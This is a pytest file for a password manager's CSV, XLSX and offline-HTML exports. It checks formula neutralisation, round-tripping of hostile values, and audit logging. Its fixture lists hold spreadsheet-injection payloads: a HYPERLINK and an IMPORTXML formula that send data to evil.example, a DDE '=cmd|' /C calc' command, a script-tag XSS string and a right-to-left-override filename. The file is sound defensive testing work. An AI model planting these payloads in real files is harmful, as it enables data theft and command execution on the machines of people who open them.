"""The files themselves: formula neutralisation in CSV and XLSX (read back with openpyxl),
hostile values that round-trip exactly through every format, and the audit record of each
export (its SHA-256 is the SHA-256 of the bytes delivered; nothing is delivered when the
record cannot be written)."""

from __future__ import annotations

import csv
import hashlib
import io

import pytest

from factories import (
    PASSPHRASE,
    TEST_ITERATIONS,
    account_make,
    resource_make,
    rgroup_make,
    user_make,
)
from strongroom.audit.models import AuditEvent
from strongroom.core.errors import AuditUnavailable
from strongroom.exports import services
from strongroom.exports.offline_file import offline_file_open
from strongroom.exports.spreadsheet import (
    FORMULA_STARTS,
    cell_neutralise,
    cell_restore,
    ooxml_escape,
    ooxml_unescape,
)

from .helpers import audit_trail_broken, csv_rows, policy_set, xlsx_cells, xlsx_rows

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "|cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000+1",
    "\uff1d1+1",
    "'already quoted",
]
HOSTILE = [
    "<script>alert(1)</script>",
    "</script><!--",
    '"quoted", with, commas',
    "line one\r\nline two\rthree\nfour",
    "tab\there",
    "ctrl \x01\x07\x08\x0b\x0c\x1b\x1f end",
    "_x0041_ looks like an escape",
    "\u202egnp.exe",  # right-to-left override
    "zero\u200bwidth",
    "日本語 🔑 Ω",
    "  leading and trailing  ",
    "x" * 5000,
]


@pytest.mark.parametrize("value", FORMULAS)
def test_cell_neutralise_prefixes_every_formula_trigger(value):
    cell = cell_neutralise(value)
    assert cell == "'" + value
    assert cell_restore(cell) == value


@pytest.mark.parametrize("value", ["plain", "", "1+1", "a=b", "user@example.com", "x-1", " a"])
def test_cell_neutralise_leaves_ordinary_text_alone(value):
    assert cell_neutralise(value) == value


def test_ooxml_escape_round_trips():
    for value in HOSTILE + FORMULAS:
        escaped = ooxml_escape(value)
        assert "\r" not in escaped and "\x01" not in escaped
        assert ooxml_unescape(escaped) == value


@pytest.fixture
def hostile_owner():
    policy_set(kdf_iterations=TEST_ITERATIONS, plain_text_allowed=True)
    owner = user_make("password_admin")
    values = FORMULAS + HOSTILE
    for i, value in enumerate(values):
        resource = resource_make(
            owner,
            f"{i:02d} {value}"[:500] if i % 2 else value[:500],
            host=value[:1000],
            url=value[:2000],
            department=value[:300],
            location=value[:300],
            resource_type=value[:100],
        )
        account_make(owner, resource, username=value[:500], password=value, notes=value)
    rgroup_make(owner, resource, name='=IMPORTXML("http://evil.example","//a")')
    return owner


def _expected(owner):
    from strongroom.vault.models import Account

    out = set()
    for account in Account.objects.filter(resource__owner=owner).select_related("resource"):
        from strongroom.core.secrets import unseal

        out.add(
            (
                account.resource.name,
                account.username,
                unseal(account, "password"),
                unseal(account, "notes"),
                account.resource.host,
                account.resource.url,
                account.resource.department,
            )
        )
    return out


def test_hostile_values_round_trip_through_every_format(hostile_owner):
    expected = _expected(hostile_owner)
    assert len(expected) == len(FORMULAS) + len(HOSTILE)

    payload = offline_file_open(
        html=services.export_offline_html(actor=hostile_owner, passphrase=PASSPHRASE).content,
        passphrase=PASSPHRASE,
    )
    got = {
        (e.name, e.username, e.password, e.notes, e.host, e.url, e.department)
        for e in payload.entries
    }
    assert got == expected

    for fmt, reader in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        result = services.export_spreadsheet(actor=hostile_owner, fmt=fmt, with_passwords=True)
        rows = reader(result.content)
        got = {
            (
                r["Resource"],
                r["Username"],
                r["Password"],
                r["Notes"],
                r["Host"],
                r["URL"],
                r["Department"],
            )
            for r in rows
        }
        assert got == expected, fmt
        assert any(r["Resource groups"].startswith("=IMPORTXML") for r in rows)


def _dangerous(text: str) -> bool:
    stripped = text.lstrip()
    return bool(text) and (text[0] in "\t\r\n" or (stripped and stripped[0] in FORMULA_STARTS))


def test_no_csv_cell_can_start_a_formula(hostile_owner):
    content = services.export_spreadsheet(
        actor=hostile_owner, fmt="csv", with_passwords=True
    ).content
    raw_cells = [
        c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for c in row
    ]
    assert len(raw_cells) > 12 * 20
    assert not [c for c in raw_cells if _dangerous(c)]
    assert "'=cmd|' /C calc'!A0" in raw_cells


def test_no_xlsx_cell_is_a_formula(hostile_owner):
    content = services.export_spreadsheet(
        actor=hostile_owner, fmt="xlsx", with_passwords=True
    ).content
    cells = xlsx_cells(content)
    assert len(cells) > 12 * 20
    assert {c.data_type for c in cells if c.value is not None} == {"s"}
    assert not [
        c.value for c in cells if isinstance(c.value, str) and _dangerous(ooxml_unescape(c.value))
    ]
    # Prefixed like the CSV, so copying cells out of the workbook stays safe too.
    assert "'=cmd|' /C calc'!A0" in [c.value for c in cells]


def test_without_passwords_the_spreadsheet_holds_no_sealed_value(hostile_owner):
    owner = user_make("password_admin")
    resource = resource_make(owner, "mail")
    account_make(
        owner, resource, "postmaster", "S3aled-pw", notes="n0tes", totp_seed="JBSWY3DPEHPK3PXP"
    )
    for fmt, reader in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        result = services.export_spreadsheet(actor=owner, fmt=fmt, with_passwords=False)
        [row] = reader(result.content)
        assert set(row) == {
            "Resource", "Username", "Type", "Host", "URL", "Resource groups", "Department",
            "Location", "Updated",
        }  # fmt: skip
        assert row["Username"] == "postmaster"
    csv_content = services.export_spreadsheet(actor=owner, fmt="csv").content
    for secret in (b"S3aled-pw", b"n0tes", b"JBSWY3DPEHPK3PXP"):
        assert secret not in csv_content


@pytest.mark.parametrize("fmt", ["html", "csv", "xlsx"])
def test_every_export_is_audited_with_the_sha256_of_the_bytes_delivered(fmt):
    policy_set(kdf_iterations=TEST_ITERATIONS, plain_text_allowed=True)
    owner = user_make("password_admin")
    account_make(owner, resource_make(owner, "sw-core"), "admin", "Sw1tch-pw")
    if fmt == "html":
        result = services.export_offline_html(
            actor=owner, passphrase=PASSPHRASE, reason="site visit", client_ip="198.51.100.7"
        )
    else:
        result = services.export_spreadsheet(
            actor=owner, fmt=fmt, with_passwords=True, reason="site visit", client_ip="198.51.100.7"
        )
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
    [event] = AuditEvent.objects.filter(action__startswith="export.")
    assert event.outcome == "success"
    assert event.actor_id == owner.pk and event.actor_name == owner.username
    assert event.reason == "site visit" and event.client_ip == "198.51.100.7"
    assert event.object_name == result.filename
    assert event.details["format"] == fmt
    assert event.details["entry_count"] == 1
    assert event.details["sha256"] == result.sha256
    assert event.details["size"] == len(result.content)
    assert event.details["scope"] == "all"
    text = str(event.details) + event.reason
    assert "Sw1tch-pw" not in text and PASSPHRASE not in text
    if fmt == "html":
        assert event.details["kdf_iterations"] == TEST_ITERATIONS
        assert event.action == "export.html"
    else:
        assert event.details["with_passwords"] is True
        assert event.action == "export.spreadsheet"


def test_nothing_is_handed_out_when_the_audit_record_cannot_be_written():
    policy_set(kdf_iterations=TEST_ITERATIONS, plain_text_allowed=True)
    owner = user_make("password_admin")
    account_make(owner, resource_make(owner, "sw-core"), "admin", "Sw1tch-pw")
    before = AuditEvent.objects.count()
    with audit_trail_broken():
        with pytest.raises(AuditUnavailable):
            services.export_offline_html(actor=owner, passphrase=PASSPHRASE)
        for fmt in ("csv", "xlsx"):
            with pytest.raises(AuditUnavailable):
                services.export_spreadsheet(actor=owner, fmt=fmt, with_passwords=True)
    assert AuditEvent.objects.count() == before


def test_the_passphrase_is_never_logged(caplog):
    import logging

    policy_set(kdf_iterations=TEST_ITERATIONS)
    owner = user_make("password_admin")
    caplog.set_level(logging.DEBUG)
    services.export_offline_html(actor=owner, passphrase=PASSPHRASE)
    with pytest.raises(Exception):  # noqa: B017 - any refusal; the point is the log
        services.export_offline_html(actor=owner, passphrase="short pass")
    assert "export by user" in caplog.text
    assert PASSPHRASE not in caplog.text and "short pass" not in caplog.text
